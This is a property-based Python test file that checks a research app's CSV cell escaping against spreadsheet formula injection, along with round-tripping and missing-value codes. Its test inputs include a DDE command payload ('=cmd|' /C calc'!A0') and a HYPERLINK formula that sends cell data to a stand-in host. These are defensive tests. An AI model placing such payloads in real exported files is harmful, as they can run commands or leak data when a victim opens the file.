"""Cells do not run, are not ambiguous, and can be restored."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from app.research import restore_cell
from app.research.cells import could_run, protect_cell
from app.research.folders import csv_line
from app.research.missing import FAMILIES, USUAL

CODES = frozenset(USUAL.values())

# Made of what matters, so that hypothesis meets it often.
tricky = st.text(alphabet="'=+-@\t\r\n \u00a0\ufeff\u200b＝＋－＠9785,;\"|a", max_size=8)
contents = tricky | st.text(max_size=20) | st.sampled_from(sorted(CODES))


@given(contents)
@example("")
@example("'")
@example("''=1")
@example("97")
@example("'97")
def test_every_content_comes_back(content: str) -> None:
    assert restore_cell(protect_cell(content, CODES)) == content


@given(contents)
def test_no_content_looks_like_a_missing_code(content: str) -> None:
    assert protect_cell(content, CODES) not in CODES


@given(contents, contents)
def test_two_contents_never_become_one_cell(one: str, other: str) -> None:
    assert (protect_cell(one, CODES) == protect_cell(other, CODES)) == (one == other)


@given(contents)
def test_no_cell_can_run(content: str) -> None:
    assert not could_run(protect_cell(content, CODES))


@given(st.lists(st.lists(contents, min_size=2, max_size=2), max_size=4))
def test_content_survives_the_file(rows: list[list[str]]) -> None:
    file = io.StringIO(newline="")
    csv.writer(file).writerows([protect_cell(cell, CODES) for cell in row] for row in rows)
    file.seek(0)

    read = [[restore_cell(cell) for cell in row] for row in csv.reader(file)]

    assert read == rows


@given(st.lists(contents | st.sampled_from([",", '"', "\r", "\n", " ", "", "1"]), min_size=1))
def test_a_line_is_the_one_that_python_writes(cells: list[str]) -> None:
    file = io.StringIO(newline="")
    csv.writer(file).writerow(cells)

    assert csv_line()(cells) == file.getvalue()


@pytest.mark.parametrize(
    "content",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\tword",
        "\rword",
        "\nword",
        "  =1+1",
        "\u00a0=1+1",
        "\ufeff=1+1",
        "\u200b=1+1",
        "\u3000＝1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "﹦1+1",
        "⁺1",
        "⁼1",
        "−1",
        '=HYPERLINK("https://example.org/?"&A1)',
        "=cmd|' /C calc'!A0",
        "\x00=1+1",
    ],
)
def test_what_a_spreadsheet_would_run_is_marked(content: str) -> None:
    assert protect_cell(content) == "'" + content


@pytest.mark.parametrize("content", ["", "words", "1", "2+2=4", "a=b", "मलाई", "نعم", "'t was"[1:]])
def test_plain_content_is_left_as_it_is(content: str) -> None:
    assert protect_cell(content, CODES) == content


@pytest.mark.parametrize("family", FAMILIES)
def test_a_text_that_is_a_code_is_marked_in_its_own_column_only(family: dict[object, str]) -> None:
    code = family[next(iter(family))]

    assert protect_cell(code, frozenset(family.values())) == "'" + code
    assert restore_cell(protect_cell(code, frozenset(family.values()))) == code
